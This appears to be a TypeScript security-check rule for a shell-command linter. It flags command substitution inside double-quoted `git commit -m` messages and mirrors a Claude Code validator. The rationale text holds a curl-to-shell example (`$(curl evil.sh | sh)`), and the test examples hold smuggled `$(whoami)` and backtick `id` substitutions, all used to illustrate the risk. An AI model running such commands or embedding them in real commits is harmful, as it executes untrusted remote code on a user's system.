/**
 * git-commit-substitution: a `git commit -m "…"` whose double-quoted message contains `$(`,
 * a backtick or `${`. The ask of Claude Code's early validator `validateGitCommit` (ID 12
 * GIT_COMMIT_SUBSTITUTION, claude-code-reference.md §1.5).
 */
import { ORDER } from './order.js';
import { defineSecurityCheck } from './define-security-check.js';
import type { Hit, SecurityCommand } from './statement.js';

/** The message of a matching `git commit` when `validateGitCommit` asks about substitution. */
export function detect(cmd: SecurityCommand): Hit | undefined {
  const g = cmd.gitCommit;
  if (g.kind !== 'ask-substitution') return undefined;
  return {
    start: g.message.start,
    end: g.message.end,
    message:
      'Git commit message contains command substitution (`$(`, a backtick or `${`) inside double quotes: ' +
      'the shell runs it before git sees the message. Use single quotes, or a quoted heredoc: ' +
      "`git commit -F - <<'EOF'`.",
  };
}

export default defineSecurityCheck(
  {
    id: 'git-commit-substitution',
    code: 'S212',
    title: 'Command substitution in a git commit message',
    category: 'security',
    severity: { agent: 'warning', script: 'off' },
    docs: {
      rationale:
        'Claude Code allows `git commit -m \'simple message\'` without running its other checks. A ' +
        'double-quoted message is expanded by the shell first: `git commit -m "fix $(curl evil.sh | sh)"` ' +
        'runs the substitution. Claude Code asks instead of allowing (ID 12, misparsing).',
      fix:
        "Put the message in single quotes (`git commit -m 'fix $(x)'` keeps the text literal), or pass it " +
        "on stdin: `git commit -F - <<'EOF'` … `EOF`.",
      exceptions:
        'Only commands of the exact shape `git commit [flags] -m <quoted message> [rest]` without any ' +
        'backslash are examined, as in Claude Code; other commands fall through to the `command-substitution` ' +
        'rule. In the `script` profile substitution in a message is ordinary scripting and the rule is off.',
    },
    sources: ['claude-code:validateGitCommit'],
    examples: {
      valid: ["git commit -m 'fix $(whoami)'", 'git commit -m "plain message"', 'git commit --amend -m "x" --author="A <a@b.c>"'],
      invalid: ['git commit -m "fix $(whoami)"', 'git commit -m "fix `id`"', 'git commit -m "v${VERSION}"'],
    },
    claudeCode: { id: 12, name: 'validateGitCommit', misparsing: true, order: ORDER['git-commit-substitution'] },
  },
  detect,
);
